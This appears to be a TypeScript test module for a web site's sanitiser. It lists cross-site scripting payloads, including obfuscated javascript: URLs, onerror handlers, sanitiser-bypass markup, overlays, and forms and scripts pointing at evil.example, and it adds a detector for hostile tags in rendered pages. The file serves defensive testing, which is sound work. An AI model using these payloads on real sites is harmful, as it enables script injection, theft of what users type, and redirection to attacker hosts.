import type { Spoil } from './otherEndpoint/startOtherEndpoint';

/** The mark that a page leaves if it ran hostile code. A browser test checks for it too. */
const ATTACK = 'window.taken=1';

/** Markup and Markdown that would run code, cover the page, take what readers type, or lead them away. */
export const HOSTILE_HTML: readonly string[] = [
  `<script>${ATTACK}</script>`,
  `<ScRiPt src=https://evil.example/x.js></sCrIpT>`,
  `<scr<script>ipt>${ATTACK}</scr</script>ipt>`,
  `<img src=x onerror=${ATTACK}>`,
  `<img src="javascript:${ATTACK}" alt="x">`,
  `<img src="data:image/svg+xml,<svg onload=${ATTACK}>" alt="x">`,
  `<a href="javascript:${ATTACK}">x</a>`,
  `<a href="java\tscript:${ATTACK}">x</a>`,
  `<a href=" &#106;avascript:${ATTACK}">x</a>`,
  `<a href="vbscript:x">x</a>`,
  `<a href="data:text/html,<script>${ATTACK}</script>">x</a>`,
  `[x](javascript:${ATTACK})`,
  `[x](<java\nscript:${ATTACK}>)`,
  '![x](data:image/svg+xml;base64,PHN2Zz4=)',
  `<svg onload=${ATTACK}><script>${ATTACK}</script><foreignObject><iframe src="javascript:${ATTACK}"></iframe></foreignObject><text>x</text></svg>`,
  `<svg><a xlink:href="javascript:${ATTACK}"><rect width="1000" height="1000"/></a></svg>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${ATTACK}></style></mglyph></table></mtext></math>`,
  '<div style="position:fixed;inset:0;z-index:99999;background:red">x</div>',
  '<p style="position:fixed;inset:0">x</p>',
  '<style>body{display:none}</style>',
  '<p class="modal" id="app" style="color:red" onclick="alert(1)">x</p>',
  `<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>${ATTACK}</script>"></iframe>`,
  '<object data="x.swf"></object><embed src="x.swf">',
  `<form action="https://evil.example"><input name="card"><button formaction="javascript:${ATTACK}">x</button></form>`,
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel=stylesheet href=//evil.example>',
  `<noscript><p title="</noscript><img src=x onerror=${ATTACK}>">`,
  `<!--><img src=x onerror=${ATTACK}>-->`,
  '<a href="//evil.example">x</a>',
  `\`<script>${ATTACK}</script>\``,
  `</div></main></body><script>${ATTACK}</script>`,
];

/** Addresses that would run code, show their own document, or secretly lead elsewhere. */
export const HOSTILE_ADDRESSES: readonly string[] = [
  `javascript:${ATTACK}`,
  `JaVaScRiPt:${ATTACK}`,
  ` \u0001javascript:${ATTACK}`,
  `java\n\tscript:${ATTACK}`,
  `javascript://example.com/%0a${ATTACK}`,
  `data:text/html,<script>${ATTACK}</script>`,
  `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${ATTACK}"/>`,
  `vbscript:${ATTACK}`,
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  '//evil.example/',
  '/\\evil.example/',
  '\\\\evil.example',
  'https://',
  '"><script>window.taken=1</script>',
];

const HOSTILE_TEXT = `</script></title></style>--><script>${ATTACK}</script><img src=x onerror=${ATTACK}>"' onload=${ATTACK} {{x}}`;

/** Fields for names, order or choice, and times. Attacks there would only break the answer. */
const KEPT =
  /^(__typename|id|slug|pageType|kind|type|field|direction|groupType|accordionType|formattingType|emphasis|form|pictureSide|weekday|date|opens|closes|startsAt|endsAt|publishedAt|updatedAt|timeZone|dealershipStockType|new|demo|used|priceType|repaymentFrequency|network|stockMake|stockModel|state)$|^\d+$/;

/** The answers of a hostile endpoint: every text, every HTML and every address is an attack. */
export function hostileSpoil(): Spoil {
  let turn = 0;
  return (field, text) => {
    if (typeof text !== 'string' || KEPT.test(field)) return text;
    turn += 1;
    if (/^html$|Html$/.test(field)) return HOSTILE_HTML.join('\n');
    if (/^url$|Url$/.test(field)) return HOSTILE_ADDRESSES[turn % HOSTILE_ADDRESSES.length] ?? '';
    return text + HOSTILE_TEXT;
  };
}

/** An element as a parser sees it: name and attributes, without texts and values. */
const TAG = /<([a-z][\w-]*)((?:\s+[^\s"'>/=]+(?:\s*=\s*(?:"[^"]*"|'[^']*'|[^\s"'>]+))?)*)\s*\/?>/gi;

/** Parts of our own pages that look like an attack: Emotion's styles, Gatsby's announcer, the QR code for print. */
const OWN =
  /<style data-emotion[^>]*>[^<]*<\/style>|<div id="gatsby-announcer"[^>]*>|<img src="data:image\/png;base64,[\w+/=]+" alt="QR code of this page"[^>]*>/g;

/** The pieces of a page's HTML that our own pages never have. Empty if nothing hostile came through. */
export function hostilePieces(html: string): readonly string[] {
  // React and the sanitiser escape every "<" in text, so each remaining one begins a tag.
  return [...html.replace(OWN, '').matchAll(TAG)].flatMap(([tag, name = '', attributes = '']) => {
    const isJsonLd = tag === '<script type="application/ld+json">';
    const isForeign = /^(script|style|iframe|object|embed|base|math|foreignobject|link|meta)$/i.test(name);
    const isRefresh = /^meta$/i.test(name) && /http-equiv/i.test(attributes);
    const isHeads = /^(meta|link)$/i.test(name) && !isRefresh && /\s(name|property|rel)="/.test(attributes);
    const hasHandler = /\son\w+\s*=/i.test(attributes.replace(/"[^"]*"/g, '""'));
    const runs =
      /\s(href|src|srcset|action|formaction|xlink:href|data|content)="\s*(javascript|vbscript|data|file|blob|\/\/|\/\\|\\)/i;
    const covers = /\sstyle="[^"]*(position|inset|z-index)/i;
    const isBad =
      (isForeign && !isJsonLd && !isHeads) ||
      isRefresh ||
      hasHandler ||
      runs.test(attributes) ||
      covers.test(attributes);
    return isBad ? [tag.slice(0, 200)] : [];
  });
}
